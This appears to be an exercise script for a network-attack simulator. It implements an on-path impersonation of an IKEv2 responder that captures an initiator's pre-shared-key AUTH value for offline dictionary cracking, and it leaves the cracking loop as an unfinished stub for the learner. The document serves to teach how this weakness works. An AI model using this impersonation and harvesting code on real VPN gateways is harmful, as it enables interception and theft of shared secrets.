-- mallory, on the wire between the gateways. What is finished: it answers IKE_SA_INIT in gw-b's place, makes the keys of that exchange, opens
-- the initiator's IKE_AUTH and keeps what AUTH was made from. What is yours: try secrets on it.
attack = {
  name = "crack",
  about = "Answers in the responder's place and tries a dictionary on the initiator's AUTH",
  position = "on-path",
  needs = "to answer instead of the responder, once",
  source = "RFC 7296, 2.15",
  shows = { vulnerable = "the secret is found", hardened = "it is not" },
}
-- Parameters: dictionary = "common"; each = 200 (tries in one go), pause = "10ms" (between them).
local dictionary, each, pause
local trial              -- what AUTH is compared with, once it is there
local me                 -- the adversary's half of the exchange: key pair, nonce, SPI, its answer
local tried = 0

function on_start(params)
  dictionary = words(params.dictionary or "common")
  each = tonumber(params.each or "200")
  pause = params.pause or "10ms"
end

local function find(message, type)
  for _, payload in ipairs(message.payloads) do
    if payload.type == type then return payload end
  end
end

-- One transform of each type, the first on offer: what any responder could have chosen.
local function choose(proposal)
  local chosen, seen = {}, {}
  for _, t in ipairs(proposal.transforms) do
    if not seen[t.type] then
      seen[t.type] = true
      chosen[#chosen + 1] = t
    end
  end
  return { number = proposal.number, protocol = proposal.protocol, spi = "", transforms = chosen }
end

-- IKE_SA_INIT as the responder would answer it, but with keys of ours.
local function answer(p, message)
  local proposal = choose(find(message, "SA").proposals[1])
  local suite = ike.suite(proposal)
  local ke = find(message, "KE")
  local pair = crypto.key_pair({ id = ke.method })
  me = { suite = suite, nonce = crypto.random(32), spi = bytes.hex(crypto.random(8)), request = p.payload }
  me.keys = ike.keys(suite, {
    ni = find(message, "Ni/Nr").data, nr = me.nonce, shared = crypto.shared(pair, ke.data),
    spi_i = message.spi_i, spi_r = me.spi,
  })
  local octets = ike.encode({
    spi_i = message.spi_i, spi_r = me.spi, exchange = 34, response = true, initiator = false, message_id = 0,
    payloads = {
      { number = 33, proposals = { proposal } },
      { number = 34, body = string.pack(">I2I2", pair.method, 0) .. pair.public },
      { number = 40, body = me.nonce },
      -- SIGNATURE_HASH_ALGORITHMS: without it an initiator with a certificate would not sign (RFC 7427, 4)
      { number = 41, body = string.pack(">I1I1I2I2I2I2I2", 0, 0, 16431, 2, 3, 4, 5) },
    },
  })
  learn("SK_ei, SK_er", "the keys of an IKE SA with " .. p.from .. ", which believes to talk to " .. p.to,
    "a key exchange of its own with the initiator's KE payload", me.keys.sk_ei .. me.keys.sk_er)
  inject{ src = p.dst, src_port = p.dst_port, dst = p.src, dst_port = p.src_port, protocol = "IKE", to = p.from,
    payload = octets, note = "IKE_SA_INIT answered in the place of " .. p.to }
end

-- IKE_AUTH: who the initiator is, and AUTH. From here on the work is done in silence.
local function take_auth(p)
  local inner, why = ike.open(p.payload, me.suite, me.keys)
  if not inner then return say("IKE_AUTH does not open: " .. why) end
  me.asked = true
  local id, auth = find(inner, "IDi"), find(inner, "AUTH")
  learn("identity", id.id_type_name .. " " .. id.data, "IDi is sent before the responder has shown who it is", id.data)
  if auth.method ~= 2 then
    learn("AUTH", "a signature (" .. auth.method_name .. "): no secret to try", "AUTH payload")
    return achieved("find the shared secret", false, "the initiator signs: there is no shared secret to guess")
  end
  learn("AUTH", "made from the shared secret: each word can be tried against it", "AUTH payload", auth.data)
  trial = {
    at = 1, auth = auth.data, started = now(),
    octets = ike.signed_octets(me.suite.prf, { message = me.request, nonce = me.nonce, sk_p = me.keys.sk_pi, id = id.body }),
  }
  timer.after("1ms", "try")
end

-- ---- your part ----------------------------------------------------------------------------------------------------------------
-- trial.auth is the AUTH that gw-a sent, trial.octets what it covers. me.suite.prf is the negotiated PRF.
--   ike.psk_auth(prf, secret, octets)   AUTH as that secret would make it
--   dictionary                          the words, likeliest first
--   learn("psk", text, how, secret)     what you found; it is compared with the gateways' own secret
-- A call may take 1,000,000 instructions, so go through the dictionary in parts: `each` words a call, then timer.after(pause, "try").

-- A word as people vary it. So far: not at all.
local function variants(word)
  return { word }
end

function on_timer()
  local n = 0
  while trial do n = n + 1 end
end

function on_packet(p)
  if p.protocol ~= "IKE" then return end
  local message = ike.decode(p.dst_port == 4500 and p.payload:sub(5) or p.payload)
  if message.response then return end
  if message.exchange_name == "IKE_SA_INIT" and not me then
    drop("the responder must not see it")
    answer(p, message)
  elseif me and message.spi_r == me.spi then
    drop("meant for " .. p.to .. ", kept")
    if not me.asked and message.exchange_name == "IKE_AUTH" then take_auth(p) end
  end
end

function on_finish()
  if not me then achieved("find the shared secret", false, "no handshake came by") end
end
